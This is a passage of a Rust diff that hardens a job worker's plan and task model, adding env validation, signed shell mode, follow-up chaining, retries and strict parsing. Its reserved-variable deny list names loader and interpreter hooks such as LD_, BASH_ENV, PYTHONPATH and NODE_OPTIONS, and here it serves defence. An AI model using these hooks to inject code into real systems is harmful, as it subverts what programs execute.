@@ -2,14 +2,21 @@
 #![allow(clippy::module_name_repetitions)]
 
 use crate::error::{AgwError, AgwResult};
+use crate::redact::Redactor;
+use crate::trust::PlanVerifier;
 use once_cell::sync::Lazy;
 use regex::Regex;
 use serde::{Deserialize, Serialize};
+use std::collections::{BTreeMap, BTreeSet};
 
 /// Maximum length for job ID
 const MAX_JOB_ID_LEN: usize = 128;
 /// Maximum length for plan ID
 const MAX_PLAN_ID_LEN: usize = 128;
+/// Maximum length for an input reference key
+const MAX_INPUT_REF_LEN: usize = 256;
+/// Maximum length for an external request id
+const MAX_REQUEST_ID_LEN: usize = 128;
 /// Maximum length for plan description
 const MAX_PLAN_DESCRIPTION_LEN: usize = 1024;
 /// Maximum length for command
@@ -18,12 +25,69 @@ const MAX_COMMAND_LEN: usize = 4096;
 const MAX_ARGS_COUNT: usize = 256;
 /// Maximum length for a single argument
 const MAX_ARG_LEN: usize = 4096;
+/// Maximum length for a `fifo_output` path
+const MAX_FIFO_PATH_LEN: usize = 1024;
+/// Maximum number of variables in a plan's or task's `env`
+const MAX_ENV_VARS: usize = 64;
+/// Maximum length for an environment variable name
+const MAX_ENV_NAME_LEN: usize = 128;
+/// Maximum length for an environment variable value
+const MAX_ENV_VALUE_LEN: usize = 4096;
+/// Environment variable prefixes a plan may not set: the worker's own
+/// variables, and loader variables that would change what code a tool runs
+const RESERVED_ENV_PREFIXES: &[&str] = &["AGW_", "LD_", "DYLD_", "BASH_FUNC_"];
+/// Environment variables a plan may not set: `PATH` (which binary a command
+/// names, and what the command cache resolved it to), and the hooks through
+/// which shells and interpreters load code named by the environment
+const RESERVED_ENV_NAMES: &[&str] = &[
+    "PATH",
+    "IFS",
+    "ENV",
+    "BASH_ENV",
+    "SHELLOPTS",
+    "BASHOPTS",
+    "PS4",
+    "PROMPT_COMMAND",
+    "PYTHONPATH",
+    "PYTHONHOME",
+    "PYTHONSTARTUP",
+    "PYTHONINSPECT",
+    "NODE_OPTIONS",
+    "NODE_PATH",
+    "PERL5OPT",
+    "PERL5LIB",
+    "PERLLIB",
+    "RUBYOPT",
+    "RUBYLIB",
+    "JAVA_TOOL_OPTIONS",
+    "_JAVA_OPTIONS",
+    "GCONV_PATH",
+    "LOCPATH",
+    "HOSTALIASES",
+];
 /// Maximum number of tasks in a plan
 const MAX_TASKS_COUNT: usize = 100;
+/// Maximum number of times a failed task is run again
+pub const MAX_TASK_RETRIES: u32 = 10;
+/// Maximum number of `on_success_enqueue` follow-ups chained from one job
+pub const MAX_FOLLOW_UP_DEPTH: u32 = 16;
 /// Minimum timeout in seconds
-const MIN_TIMEOUT_SECS: u32 = 1;
+pub const MIN_TIMEOUT_SECS: u32 = 1;
 /// Maximum timeout in seconds (24 hours)
-const MAX_TIMEOUT_SECS: u32 = 86400;
+pub const MAX_TIMEOUT_SECS: u32 = 86400;
+
+/// Sum timeouts in seconds, failing instead of overflowing
+///
+/// # Errors
+///
+/// Returns an error if the total does not fit in a `u64`
+pub fn checked_timeout_sum(timeouts: impl IntoIterator<Item = u64>) -> AgwResult<u64> {
+    timeouts.into_iter().try_fold(0u64, |total, timeout| {
+        total.checked_add(timeout).ok_or_else(|| {
+            AgwError::Worker("Timeout total exceeds the maximum representable duration".to_string())
+        })
+    })
+}
 
 /// Dangerous Unicode characters (bidirectional overrides, zero-width)
 const DANGEROUS_UNICODE: &[char] = &[
@@ -54,6 +118,23 @@ pub struct Job {
     #[serde(default)]
     pub input: serde_json::Value,
 
+    /// Key holding the input JSON, for large or shared inputs (instead of `input`)
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub input_ref: Option<String>,
+
+    /// Upstream system's request id, logged and echoed into the job's results
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub request_id: Option<String>,
+
+    /// Scheduling priority; selects the ready queue the job is pushed to
+    #[serde(default, skip_serializing_if = "JobPriority::is_normal")]
+    pub priority: JobPriority,
+
+    /// Follow-ups that led to this job through `on_success_enqueue` (0 for a
+    /// job enqueued directly), at most `MAX_FOLLOW_UP_DEPTH`
+    #[serde(default, skip_serializing_if = "is_zero")]
+    pub chain_depth: u32,
+
     /// Job status (pending, running, completed, failed)
     #[serde(default = "default_job_status")]
     pub status: String,
@@ -63,22 +144,170 @@ fn default_job_status() -> String {
     "pending".to_string()
 }
 
+/// Priority of a job, honored at fetch by workers running with `--honor-priority`
+#[derive(Debug, Clone, Copy, Default, Serialize, Deserialize, PartialEq, Eq)]
+#[serde(rename_all = "snake_case")]
+pub enum JobPriority {
+    /// Fetched before any normal or low priority job
+    High,
+    /// The default; what workers without `--honor-priority` fetch
+    #[default]
+    Normal,
+    /// Fetched only when no high or normal priority job is ready
+    Low,
+}
+
+impl JobPriority {
+    #[allow(clippy::trivially_copy_pass_by_ref)] // serde's skip_serializing_if passes by reference
+    fn is_normal(&self) -> bool {
+        *self == Self::Normal
+    }
+}
+
+impl std::str::FromStr for JobPriority {
+    type Err = String;
+
+    fn from_str(s: &str) -> Result<Self, Self::Err> {
+        match s {
+            "high" => Ok(Self::High),
+            "normal" => Ok(Self::Normal),
+            "low" => Ok(Self::Low),
+            _ => Err(format!(
+                "invalid priority '{s}', expected high, normal or low"
+            )),
+        }
+    }
+}
+
 /// Compiled regex pattern for {{input.field}} variable substitution
 /// Uses lazy static initialization for performance (compiled once, reused forever)
 static INPUT_PATTERN: Lazy<Regex> =
     Lazy::new(|| Regex::new(r"\{\{input\.([a-zA-Z0-9_]+)\}\}").expect("Invalid regex pattern"));
 
-/// Substitute {{input.field}} variables in a string
+/// Compiled regex pattern for {{task.N.stdout}} references to an earlier task's output
+static TASK_OUTPUT_PATTERN: Lazy<Regex> =
+    Lazy::new(|| Regex::new(r"\{\{task\.([0-9]+)\.stdout\}\}").expect("Invalid regex pattern"));
+
+/// Input field names that `{{input.field}}` references can match
+static INPUT_FIELD_PATTERN: Lazy<Regex> =
+    Lazy::new(|| Regex::new(r"^[a-zA-Z0-9_]+$").expect("Invalid regex pattern"));
+
+/// Checks on a task's arguments after input substitution (`None` = unlimited)
 ///
-/// # Errors
+/// Plan validation caps the template's arguments, but substituted values come
+/// from job input, so a small plan could otherwise expand into an enormous argv.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
+pub struct SubstitutionLimits {
+    /// Most arguments one task may have
+    pub max_arg_count: Option<usize>,
+    /// Most bytes one task's arguments may add up to
+    pub max_total_bytes: Option<usize>,
+    /// Reject an argument that `{{input.field}}` substitution left empty or
+    /// all whitespace (e.g. `grep "" file` silently matching everything)
+    pub reject_empty_args: bool,
+}
+
+impl SubstitutionLimits {
+    /// Describe which of `template`'s substituted arguments came out blank, if any
+    ///
+    /// Arguments without an `{{input.field}}` reference are left alone: a
+    /// literal empty argument in the plan is deliberate.
+    fn blank_in(&self, template: &Task, substituted: &Task) -> Option<String> {
+        if !self.reject_empty_args {
+            return None;
+        }
+        let blank: Vec<String> = template
+            .args
+            .iter()
+            .zip(&substituted.args)
+            .enumerate()
+            .filter(|(_, (arg, value))| INPUT_PATTERN.is_match(arg) && value.trim().is_empty())
+            .map(|(i, _)| format!("args[{i}]"))
+            .collect();
+        (!blank.is_empty()).then(|| {
+            format!(
+                "Substitution left {} empty or whitespace-only",
+                blank.join(", ")
+            )
+        })
+    }
+
+    /// Describe how `task`'s arguments exceed the limits, if they do
+    fn exceeded_by(&self, task: &Task) -> Option<String> {
+        let count = task.args.len();
+        if let Some(max) = self.max_arg_count.filter(|&max| count > max) {
+            return Some(format!(
+                "Substituted arguments number {count}, exceeding the maximum of {max}"
+            ));
+        }
+        let bytes: usize = task.args.iter().map(String::len).sum();
+        if let Some(max) = self.max_total_bytes.filter(|&max| bytes > max) {
+            return Some(format!(
+                "Substituted arguments total {bytes} bytes, exceeding the maximum of {max}"
+            ));
+        }
+        None
+    }
+}
+
+/// Input substitution problems, collected instead of failing on the first one
+#[derive(Debug, Default, PartialEq)]
+struct SubstitutionErrors {
+    /// Referenced fields absent from the input (deduplicated, in order of first use)
+    missing_fields: Vec<String>,
+    /// Referenced fields whose values are arrays or objects
+    unsupported_fields: Vec<String>,
+}
+
+impl SubstitutionErrors {
+    fn is_empty(&self) -> bool {
+        self.missing_fields.is_empty() && self.unsupported_fields.is_empty()
+    }
+
+    fn add_missing(&mut self, field: &str) {
+        if !self.missing_fields.iter().any(|f| f == field) {
+            self.missing_fields.push(field.to_string());
+        }
+    }
+
+    fn add_unsupported(&mut self, field: &str) {
+        if !self.unsupported_fields.iter().any(|f| f == field) {
+            self.unsupported_fields.push(field.to_string());
+        }
+    }
+
+    /// Human-readable description of every problem
+    fn message(&self) -> String {
+        let mut parts = Vec::new();
+        if !self.missing_fields.is_empty() {
+            parts.push(format!(
+                "Missing required input fields: {}",
+                self.missing_fields.join(", ")
+            ));
+        }
+        for field in &self.unsupported_fields {
+            parts.push(format!(
+                "Input field '{field}' has unsupported type (must be string, number, or boolean)"
+            ));
+        }
+        parts.join("; ")
+    }
+}
+
+/// Substitute {{input.field}} variables in a string, recording any problems in `errors`
 ///
-/// Returns an error if a referenced field doesn't exist in the input data
-fn substitute_variables(text: &str, input: &serde_json::Value) -> AgwResult<String> {
+/// Unresolvable references are left in place; callers must check `errors`.
+/// Each resolution is logged at trace level, with `redactor` masking secrets.
+fn substitute_collecting(
+    text: &str,
+    input: &serde_json::Value,
+    errors: &mut SubstitutionErrors,
+    redactor: &Redactor,
+) -> String {
     // Use pre-compiled regex pattern
     let re = &*INPUT_PATTERN;
 
     let mut result = text.to_string();
-    let mut missing_fields = Vec::new();
 
     for cap in re.captures_iter(text) {
         let full_match = &cap[0];
@@ -93,27 +322,38 @@ fn substitute_variables(text: &str, input: &serde_json::Value) -> AgwResult<Stri
                 serde_json::Value::Bool(b) => b.to_string(),
                 serde_json::Value::Null => String::new(),
                 _ => {
-                    return Err(AgwError::Worker(format!(
-                        "Input field '{}' has unsupported type (must be string, number, or boolean)",
-                        field_name
-                    )));
+                    errors.add_unsupported(field_name);
+                    continue;
                 }
             };
 
+            tracing::trace!(
+                "Resolved {full_match} to {:?}",
+                redactor.redact(&replacement)
+            );
             result = result.replace(full_match, &replacement);
         } else {
-            missing_fields.push(field_name.to_string());
+            errors.add_missing(field_name);
         }
     }
 
-    if !missing_fields.is_empty() {
-        return Err(AgwError::Worker(format!(
-            "Missing required input fields: {}",
-            missing_fields.join(", ")
-        )));
-    }
+    result
+}
 
-    Ok(result)
+/// Substitute {{input.field}} variables in a string
+///
+/// # Errors
+///
+/// Returns an error if a referenced field doesn't exist in the input data
+#[cfg(test)]
+fn substitute_variables(text: &str, input: &serde_json::Value) -> AgwResult<String> {
+    let mut errors = SubstitutionErrors::default();
+    let result = substitute_collecting(text, input, &mut errors, &Redactor::default());
+    if errors.is_empty() {
+        Ok(result)
+    } else {
+        Err(AgwError::Worker(errors.message()))
+    }
 }
 
 impl Job {
@@ -138,15 +378,94 @@ impl Job {
         // Validate plan_id
         validate_string_field(&self.plan_id, "plan_id", MAX_PLAN_ID_LEN, true)?;
 
+        if let Some(input_ref) = &self.input_ref {
+            validate_input_ref(input_ref)?;
+            if !self.input.is_null() {
+                return Err(AgwError::Worker(
+                    "Job cannot have both input and input_ref".to_string(),
+                ));
+            }
+        }
+
+        if let Some(request_id) = &self.request_id {
+            validate_string_field(request_id, "request_id", MAX_REQUEST_ID_LEN, true)?;
+            // Ends up in log lines, where whitespace could forge extra fields or lines
+            if request_id.chars().any(char::is_whitespace) {
+                return Err(AgwError::Worker(
+                    "request_id cannot contain whitespace".to_string(),
+                ));
+            }
+        }
+
+        if self.chain_depth > MAX_FOLLOW_UP_DEPTH {
+            return Err(AgwError::Worker(format!(
+                "chain_depth must not exceed {MAX_FOLLOW_UP_DEPTH}"
+            )));
+        }
+
         Ok(())
     }
 }
 
+/// Validate an `input_ref` key name
+///
+/// Restricted to `[A-Za-z0-9:/._-]` so a job cannot smuggle protocol syntax
+/// or oddly encoded names into the key lookup.
+fn validate_input_ref(input_ref: &str) -> AgwResult<()> {
+    validate_string_field(input_ref, "input_ref", MAX_INPUT_REF_LEN, true)?;
+    if let Some(c) = input_ref
+        .chars()
+        .find(|c| !(c.is_ascii_alphanumeric() || matches!(c, ':' | '/' | '.' | '_' | '-')))
+    {
+        return Err(AgwError::Worker(format!(
+            "input_ref contains invalid character {c:?}"
+        )));
+    }
+    Ok(())
+}
+
+/// Fields a plan object may contain, for strict parsing
+const PLAN_FIELDS: &[&str] = &[
+    "plan_id",
+    "plan_description",
+    "tasks",
+    "execution_strategy",
+    "output_mode",
+    "env",
+    "parse_command_strings",
+    "on_success_enqueue",
+    "trusted_signature",
+];
+/// Fields a task object may contain, for strict parsing
+const TASK_FIELDS: &[&str] = &[
+    "task_number",
+    "command",
+    "args",
+    "input_from_task",
+    "input_from_tasks",
+    "stdin_mode",
+    "timeout_secs",
+    "max_output_bytes",
+    "soft_deadline_secs",
+    "input_as_file",
+    "shell",
+    "expect_json",
+    "json_format",
+    "detach",
+    "fifo_output",
+    "idempotent",
+    "encode_output_base64",
+    "env",
+    "retries",
+];
+/// Fields an `on_success_enqueue` object may contain, for strict parsing
+const FOLLOW_UP_FIELDS: &[&str] = &["plan_id", "input"];
+
 /// Execution plan containing multiple tasks (Execution Layer 2)
 ///
 /// Plans are templates that can be reused across multiple Jobs.
 /// They define the ordered sequence of tasks to execute.
-#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
+#[derive(Debug, Clone, Default, Serialize, Deserialize, PartialEq)]
 #[allow(clippy::struct_field_names)] // Field names match schema specification
 pub struct Plan {
     /// Stable plan identifier (reused across multiple job executions)
@@ -158,6 +477,112 @@ pub struct Plan {
 
     /// Ordered list of tasks to execute
     pub tasks: Vec<Task>,
+
+    /// What to do when a task fails (default: halt the plan)
+    #[serde(default, skip_serializing_if = "ExecutionStrategy::is_default")]
+    pub execution_strategy: ExecutionStrategy,
+
+    /// What is posted as the job's primary result (default: all stdout concatenated)
+    #[serde(default, skip_serializing_if = "OutputMode::is_default")]
+    pub output_mode: OutputMode,
+
+    /// Environment variables set for every task (a task's own `env` wins)
+    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
+    pub env: BTreeMap<String, String>,
+
+    /// Split each task's `command` into argv like a shell would (`"grep -i 'a b'"`
+    /// runs `grep` with args `-i`, `a b`), without ever invoking a shell
+    #[serde(default, skip_serializing_if = "is_false")]
+    pub parse_command_strings: bool,
+
+    /// Follow-up job to enqueue once this plan completes successfully
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub on_success_enqueue: Option<FollowUp>,
+
+    /// Hex HMAC-SHA256 marking the plan as trusted (required for shell tasks)
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub trusted_signature: Option<String>,
+}
+
+/// A job to chain after a successful plan
+///
+/// The follow-up job runs `plan_id` with an input object built from this
+/// plan's task outputs, so the next plan can reference them as `{{input.field}}`.
+#[derive(Debug, Clone, Default, Serialize, Deserialize, PartialEq)]
+pub struct FollowUp {
+    /// Plan to run as the follow-up job
+    pub plan_id: String,
+
+    /// Follow-up input field name -> task number whose stdout fills it
+    /// (a single trailing newline is stripped)
+    #[serde(default)]
+    pub input: BTreeMap<String, u32>,
+}
+
+impl FollowUp {
+    /// Build the follow-up job's input from task outputs
+    ///
+    /// `stdout_of` returns the stdout of a task by number.
+    ///
+    /// # Errors
+    ///
+    /// Returns an error if a mapped task has no output (it was not executed)
+    pub fn build_input<'a>(
+        &self,
+        stdout_of: impl Fn(u32) -> Option<&'a str>,
+    ) -> AgwResult<serde_json::Value> {
+        let mut input = serde_json::Map::new();
+        for (field, &task_number) in &self.input {
+            let stdout = stdout_of(task_number).ok_or_else(|| {
+                AgwError::Worker(format!(
+                    "Follow-up input field '{field}' references task {task_number}, which produced no output"
+                ))
+            })?;
+            let value = stdout
+                .strip_suffix('\n')
+                .map_or(stdout, |s| s.strip_suffix('\r').unwrap_or(s));
+            input.insert(field.clone(), serde_json::Value::String(value.to_string()));
+        }
+        Ok(serde_json::Value::Object(input))
+    }
+}
+
+/// How a plan proceeds after a task fails
+#[derive(Debug, Clone, Copy, Default, Serialize, Deserialize, PartialEq, Eq)]
+#[serde(rename_all = "snake_case")]
+pub enum ExecutionStrategy {
+    /// Stop at the first failed task (remaining tasks are not executed)
+    #[default]
+    HaltOnFailure,
+    /// Execute every task regardless of failures; the plan fails if any task failed
+    RunAll,
+}
+
+impl ExecutionStrategy {
+    #[allow(clippy::trivially_copy_pass_by_ref)] // serde's skip_serializing_if passes by reference
+    fn is_default(&self) -> bool {
+        *self == Self::default()
+    }
+}
+
+/// What a plan posts as its job's primary result (`job:<id>:stdout`)
+#[derive(Debug, Clone, Copy, Default, Serialize, Deserialize, PartialEq, Eq)]
+#[serde(rename_all = "snake_case")]
+pub enum OutputMode {
+    /// Stdout of every executed task, in order
+    #[default]
+    Concatenated,
+    /// Stdout of the last executed task only
+    LastTaskOnly,
+    /// JSON object mapping each executed task's number to its stdout
+    PerTask,
+}
+
+impl OutputMode {
+    #[allow(clippy::trivially_copy_pass_by_ref)] // serde's skip_serializing_if passes by reference
+    fn is_default(&self) -> bool {
+        *self == Self::default()
+    }
 }
 
 /// A single task within an execution plan
@@ -178,9 +603,159 @@ pub struct Task {
     #[serde(skip_serializing_if = "Option::is_none")]
     pub input_from_task: Option<u32>,
 
+    /// Optional previous tasks whose stdout, concatenated in the order listed,
+    /// becomes this task's stdin (fan-in alternative to `input_from_task`)
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub input_from_tasks: Vec<u32>,
+
+    /// What the task's stdin is connected to (default: `from_task` when it
+    /// reads earlier tasks' output, otherwise `null`)
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub stdin_mode: Option<StdinMode>,
+
     /// Optional per-task timeout in seconds
     #[serde(skip_serializing_if = "Option::is_none")]
     pub timeout_secs: Option<u32>,
+
+    /// Optional per-task cap on captured stdout/stderr bytes (overrides the worker-wide cap)
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub max_output_bytes: Option<usize>,
+
+    /// Optional soft deadline in seconds: exceeding it logs a warning and flags the
+    /// result, but the task keeps running and is not failed
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub soft_deadline_secs: Option<u32>,
+
+    /// Write the full job input JSON to a temp file and expose its path to the
+    /// task via the `AGW_INPUT_FILE` environment variable
+    #[serde(default, skip_serializing_if = "is_false")]
+    pub input_as_file: bool,
+
+    /// Run `command` as a script via `sh -c` (args become `$1`, `$2`, ...)
+    ///
+    /// Only permitted when the worker runs with `--allow-shell` and the plan
+    /// carries a valid `trusted_signature`.
+    #[serde(default, skip_serializing_if = "is_false")]
+    pub shell: bool,
+
+    /// Require stdout to be a single well-formed JSON document, failing the task otherwise
+    #[serde(default, skip_serializing_if = "is_false")]
+    pub expect_json: bool,
+
+    /// Re-emit validated JSON stdout in this format before it is passed downstream
+    /// (requires `expect_json`)
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub json_format: Option<JsonFormat>,
+
+    /// Start the process and move on without waiting for it (fire-and-forget)
+    ///
+    /// DANGER: a detached process is not killed when the job ends, times out,
+    /// or the worker shuts down, so it can outlive the job and keep consuming
+    /// resources unsupervised. Its output and exit status are discarded and the
+    /// task is reported as succeeded once it has started.
+    #[serde(default, skip_serializing_if = "is_false")]
+    pub detach: bool,
+
+    /// Also copy stdout, as it is produced, to the named pipe (FIFO) at this
+    /// absolute path for live consumers (Unix only)
+    ///
+    /// The FIFO must already exist. The copy is best effort: it is skipped when
+    /// no reader is attached and drops data a slow reader cannot keep up with,
+    /// so it never holds up the task or changes its captured stdout.
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub fifo_output: Option<String>,
+
+    /// Whether running the task twice is harmless (default: true)
+    ///
+    /// When a checkpointed job is resumed, a non-idempotent task that may
+    /// already have run (it was started or has a failed checkpoint) is failed
+    /// instead of re-executed, unless the worker runs with `--force-reexec`.
+    #[serde(default = "default_true", skip_serializing_if = "is_true")]
+    pub idempotent: bool,
+
+    /// Capture stdout as raw bytes and post it base64-encoded behind an
+    /// `agw:base64:` marker, for tools whose output is binary
+    ///
+    /// Only this task's contribution to the result is encoded; a task reading
+    /// it through `input_from_task` still receives the raw bytes.
+    #[serde(default, skip_serializing_if = "is_false")]
+    pub encode_output_base64: bool,
+
+    /// Environment variables set for this task, on top of the plan's `env`
+    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
+    pub env: BTreeMap<String, String>,
+
+    /// Run the task again up to this many times while it fails (non-zero
+    /// exit or timeout); only its last attempt is reported
+    #[serde(default, skip_serializing_if = "is_zero")]
+    pub retries: u32,
+}
+
+impl Default for Task {
+    fn default() -> Self {
+        Self {
+            task_number: 0,
+            command: String::new(),
+            args: Vec::new(),
+            input_from_task: None,
+            input_from_tasks: Vec::new(),
+            stdin_mode: None,
+            timeout_secs: None,
+            max_output_bytes: None,
+            soft_deadline_secs: None,
+            input_as_file: false,
+            shell: false,
+            expect_json: false,
+            json_format: None,
+            detach: false,
+            fifo_output: None,
+            idempotent: true,
+            encode_output_base64: false,
+            env: BTreeMap::new(),
+            retries: 0,
+        }
+    }
+}
+
+/// What a task's stdin is connected to
+#[derive(Debug, Clone, Copy, Serialize, Deserialize, PartialEq, Eq)]
+#[serde(rename_all = "snake_case")]
+pub enum StdinMode {
+    /// `/dev/null`
+    Null,
+    /// A pipe closed without writing anything: open, but at EOF at once
+    Empty,
+    /// A pipe carrying the output of `input_from_task` / `input_from_tasks`
+    FromTask,
+}
+
+/// Formatting applied to a task's JSON stdout
+#[derive(Debug, Clone, Copy, Serialize, Deserialize, PartialEq, Eq)]
+#[serde(rename_all = "snake_case")]
+pub enum JsonFormat {
+    /// Indented, multi-line JSON
+    Pretty,
+    /// Single-line JSON without insignificant whitespace
+    Compact,
+}
+
+#[allow(clippy::trivially_copy_pass_by_ref)] // serde's skip_serializing_if passes by reference
+fn is_false(value: &bool) -> bool {
+    !*value
+}
+
+#[allow(clippy::trivially_copy_pass_by_ref)] // serde's skip_serializing_if passes by reference
+fn is_true(value: &bool) -> bool {
+    *value
+}
+
+#[allow(clippy::trivially_copy_pass_by_ref)] // serde's skip_serializing_if passes by reference
+fn is_zero(value: &u32) -> bool {
+    *value == 0
+}
+
+fn default_true() -> bool {
+    true
 }
 
 impl Plan {
@@ -193,6 +768,60 @@ impl Plan {
         serde_json::from_str(json)
     }
 
+    /// Parse a plan from JSON string, rejecting fields the schema doesn't define
+    ///
+    /// Lenient parsing silently ignores a misspelled field (`timeoutsecs`), leaving
+    /// the intended setting at its default; this names the offending field instead.
+    ///
+    /// # Errors
+    ///
+    /// Returns an error if the JSON is invalid, contains an unknown plan, task or
+    /// follow-up field, or doesn't match the Plan schema
+    pub fn from_json_strict(json: &str) -> Result<Self, serde_json::Error> {
+        let value: serde_json::Value = serde_json::from_str(json)?;
+        check_known_fields(&value, PLAN_FIELDS, "plan")?;
+        if let Some(tasks) = value.get("tasks").and_then(serde_json::Value::as_array) {
+            for (i, task) in tasks.iter().enumerate() {
+                check_known_fields(task, TASK_FIELDS, &format!("tasks[{i}]"))?;
+            }
+        }
+        if let Some(follow_up) = value.get("on_success_enqueue") {
+            check_known_fields(follow_up, FOLLOW_UP_FIELDS, "on_success_enqueue")?;
+        }
+        serde_json::from_value(value)
+    }
+
+    /// Split single-string commands into command and arguments (`parse_command_strings`)
+    ///
+    /// Words split from a command go before the task's own `args`. Shell tasks
+    /// are left alone, and each split task is validated again as the argv it
+    /// now runs. Nothing happens unless the plan opts in.
+    ///
+    /// # Errors
+    ///
+    /// Returns an error if a command has unbalanced quotes or a trailing
+    /// backslash, splits into no words, or its argv fails task validation
+    pub fn split_command_strings(&mut self) -> AgwResult<()> {
+        if !self.parse_command_strings {
+            return Ok(());
+        }
+        for task in self.tasks.iter_mut().filter(|task| !task.shell) {
+            let mut words = split_words(&task.command)
+                .map_err(|e| AgwError::Worker(format!("Task {} command {e}", task.task_number)))?
+                .into_iter();
+            let Some(command) = words.next().filter(|command| !command.is_empty()) else {
+                return Err(AgwError::Worker(format!(
+                    "Task {} command cannot be empty",
+                    task.task_number
+                )));
+            };
+            task.command = command;
+            task.args.splice(0..0, words);
+            task.validate()?;
+        }
+        Ok(())
+    }
+
     /// Serialize plan to JSON string
     ///
     /// # Errors
@@ -210,9 +839,24 @@ impl Plan {
     /// Returns an error if:
     /// - Any field contains dangerous patterns
     /// - Tasks are empty or exceed maximum count
+    /// - Two tasks share a task number
     /// - Task numbers are not contiguous starting at 1
     /// - `input_from_task` references are invalid
+    /// - Any task uses shell mode (see [`Plan::validate_trusted`])
+    #[allow(dead_code)] // The worker validates via validate_trusted
     pub fn validate(&self) -> AgwResult<()> {
+        self.validate_trusted(None)
+    }
+
+    /// Validate the plan, permitting shell tasks only if `verifier` accepts its signature
+    ///
+    /// `verifier` is `Some` only when the worker runs with `--allow-shell`.
+    ///
+    /// # Errors
+    ///
+    /// Returns an error under the same conditions as [`Plan::validate`], or if a
+    /// shell task is present without shell mode enabled and a valid signature
+    pub fn validate_trusted(&self, verifier: Option<&PlanVerifier>) -> AgwResult<()> {
         // Validate plan_id
         validate_string_field(&self.plan_id, "plan_id", MAX_PLAN_ID_LEN, true)?;
 
@@ -221,6 +865,8 @@ impl Plan {
             validate_string_field(desc, "plan_description", MAX_PLAN_DESCRIPTION_LEN, false)?;
         }
 
+        validate_env(&self.env, "env")?;
+
         // Validate tasks array
         if self.tasks.is_empty() {
             return Err(AgwError::Worker(
@@ -234,6 +880,18 @@ impl Plan {
             )));
         }
 
+        // Duplicates would otherwise surface as a confusing contiguity error
+        // pointing at whichever task happened to be shifted
+        let mut seen = std::collections::HashSet::with_capacity(self.tasks.len());
+        for task in &self.tasks {
+            if !seen.insert(task.task_number) {
+                return Err(AgwError::Worker(format!(
+                    "Plan has duplicate task number {}",
+                    task.task_number
+                )));
+            }
+        }
+
         // Validate task numbers are contiguous starting at 1
         for (index, task) in self.tasks.iter().enumerate() {
             let expected_task_number = u32::try_from(index + 1)
@@ -248,59 +906,423 @@ impl Plan {
             // Validate the task itself
             task.validate()?;
 
-            // Validate input_from_task references
-            if let Some(ref_task) = task.input_from_task {
+            if task.shell {
+                match verifier {
+                    None => {
+                        return Err(AgwError::Worker(format!(
+                            "Task {} uses shell mode, which requires the worker to run with --allow-shell",
+                            task.task_number
+                        )));
+                    }
+                    Some(verifier) if !verifier.verify(self) => {
+                        return Err(AgwError::Worker(format!(
+                            "Task {} uses shell mode but plan '{}' has no valid trusted_signature",
+                            task.task_number, self.plan_id
+                        )));
+                    }
+                    Some(_) => {}
+                }
+            }
+
+            // Validate input_from_task / input_from_tasks references
+            let field = task.input_field();
+            for ref_task in task.input_tasks() {
                 if ref_task == 0 {
-                    return Err(AgwError::Worker("input_from_task must be >= 1".to_string()));
+                    return Err(AgwError::Worker(format!("{field} must be >= 1")));
                 }
                 if ref_task >= task.task_number {
                     return Err(AgwError::Worker(format!(
-                        "Task {} has invalid input_from_task {}: cannot reference self or future tasks",
+                        "Task {} has invalid {field} {}: cannot reference self or future tasks",
+                        task.task_number, ref_task
+                    )));
+                }
+                if self.tasks[ref_task as usize - 1].detach {
+                    return Err(AgwError::Worker(format!(
+                        "Task {} has invalid {field} {}: detached tasks produce no output",
                         task.task_number, ref_task
                     )));
                 }
             }
+
+            // Validate {{task.N.stdout}} references in arguments
+            for ref_task in task.output_references() {
+                if ref_task == 0 || ref_task >= task.task_number {
+                    return Err(AgwError::Worker(format!(
+                        "Task {} references {{{{task.{ref_task}.stdout}}}}: can only reference earlier tasks",
+                        task.task_number
+                    )));
+                }
+                if self.tasks[ref_task as usize - 1].detach {
+                    return Err(AgwError::Worker(format!(
+                        "Task {} references {{{{task.{ref_task}.stdout}}}}: detached tasks produce no output",
+                        task.task_number
+                    )));
+                }
+            }
+        }
+
+        if let Some(follow_up) = &self.on_success_enqueue {
+            self.validate_follow_up(follow_up)?;
         }
 
+        self.max_runtime_secs(0)?;
+
         Ok(())
     }
-}
 
-impl Task {
-    /// Substitute input variables in task arguments
+    /// Validate that a follow-up names a valid plan other than this one and maps
+    /// only existing tasks
     ///
-    /// Replaces {{input.field}} patterns with values from the job input data.
-    /// For example, "{{input.path}}" becomes "/tmp" if job.input = {"path": "/tmp"}
+    /// Longer cycles through other plans cannot be seen from one plan; they end
+    /// at `MAX_FOLLOW_UP_DEPTH` instead.
+    fn validate_follow_up(&self, follow_up: &FollowUp) -> AgwResult<()> {
+        validate_string_field(
+            &follow_up.plan_id,
+            "on_success_enqueue.plan_id",
+            MAX_PLAN_ID_LEN,
+            true,
+        )?;
+        if follow_up.plan_id == self.plan_id {
+            return Err(AgwError::Worker(format!(
+                "on_success_enqueue cannot enqueue plan '{}' itself",
+                self.plan_id
+            )));
+        }
+
+        for (field, &task_number) in &follow_up.input {
+            if !INPUT_FIELD_PATTERN.is_match(field) {
+                return Err(AgwError::Worker(format!(
+                    "on_success_enqueue input field '{field}' must contain only letters, digits, and underscores"
+                )));
+            }
+            if task_number == 0 || task_number as usize > self.tasks.len() {
+                return Err(AgwError::Worker(format!(
+                    "on_success_enqueue input field '{field}' references unknown task {task_number}"
+                )));
+            }
+        }
+
+        Ok(())
+    }
+
+    /// Give every task without a `timeout_secs` this timeout
+    ///
+    /// Detached tasks are left alone: they cannot have a timeout.
+    pub fn apply_default_timeout(&mut self, timeout_secs: u32) {
+        for task in self.tasks.iter_mut().filter(|task| !task.detach) {
+            task.timeout_secs.get_or_insert(timeout_secs);
+        }
+    }
+
+    /// Reject the plan if any task (other than a detached one) has no `timeout_secs`
     ///
     /// # Errors
     ///
-    /// Returns an error if a referenced field doesn't exist in the input data
